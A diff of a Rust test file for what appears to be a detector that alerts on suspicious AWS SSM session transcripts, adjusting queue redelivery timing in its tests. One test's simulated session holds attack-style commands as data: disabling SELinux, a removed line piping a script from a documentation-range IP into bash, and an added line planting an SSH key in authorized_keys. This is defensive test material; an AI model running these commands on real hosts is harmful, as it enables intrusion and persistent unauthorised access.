@@ -77,7 +77,7 @@ fn only_the_poison_message_ends_in_the_dead_letter_queue() {
     let stack = ministack.deploy("100000000004", &[]);
     let queue = stack.alerts("alerts", None);
     let input = stack.queue("transcripts");
-    hurry(&stack, 2);
+    hurry(&stack, 15, 2);
     let good: Vec<_> = (1..=2).map(|n| Operated::new("100000000004", n, &[ATTACK])).collect();
     let bucket = stack.bucket("transcripts");
     for session in &good {
@@ -130,12 +130,15 @@ fn redelivery_makes_no_second_alert() {
     ministack.account(account).json("Logs_20140328.CreateLogGroup", &json!({"logGroupName": "/ssm/sessions"}));
     let stack = ministack.deploy(account, &[("LogGroup1", "/ssm/sessions"), ("FollowUp", "1s")]);
     let queue = stack.alerts("alerts", None);
-    let session =
-        Operated::new(account, 1, &["uptime", ATTACK, "sudo setenforce 0", "curl -s http://203.0.113.66/x.sh | bash"]);
+    let session = Operated::new(
+        account,
+        1,
+        &["uptime", ATTACK, "sudo setenforce 0", "echo ssh-ed25519 AAAATEST >> ~/.ssh/authorized_keys"],
+    );
     let bucket = stack.bucket("transcripts");
     let version = stack.account.put(&bucket, &session.key(), session.transcript()).unwrap();
     let input = stack.queue("transcripts");
-    hurry(&stack, 20);
+    hurry(&stack, 2, 20);
     for _ in 0..3 {
         stream(&stack.account, &session);
         stack.account.invoke("session-warden-cloudtrail", &session.started()).unwrap();
@@ -252,11 +255,11 @@ fn stream(account: &Account, session: &Operated) {
     account.json("Logs_20140328.PutLogEvents", &input);
 }
 
-/// Failed messages come again after a second, so often at most.
-fn hurry(stack: &Stack, times: u32) {
+/// Failed messages come again after so many seconds, so often at most.
+fn hurry(stack: &Stack, seconds: u32, times: u32) {
     let dead = format!("arn:aws:sqs:eu-west-1:{}:session-warden-transcripts-dlq", stack.account.id);
     let redrive = json!({"deadLetterTargetArn": dead, "maxReceiveCount": times}).to_string();
-    let attributes = json!({"VisibilityTimeout": "1", "RedrivePolicy": redrive});
+    let attributes = json!({"VisibilityTimeout": seconds.to_string(), "RedrivePolicy": redrive});
     let input = json!({"QueueUrl": stack.queue("transcripts"), "Attributes": attributes});
     stack.account.json("AmazonSQS.SetQueueAttributes", &input);
 }
